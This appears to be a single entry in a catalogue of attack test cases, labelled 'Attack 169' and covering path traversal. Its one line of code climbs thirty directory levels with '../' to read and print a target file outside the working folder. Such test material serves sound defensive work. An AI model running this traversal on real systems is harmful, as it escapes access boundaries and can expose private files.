"""Attack 169: through dots"""

IDEA = "Out of the working folder by dots."
SOURCE = "path traversal"
WAY = "outside/files/of the host"
CODE = """
print(open("../" * 30 + T["file"]).read())
"""
ABSENT = ["HOST"]
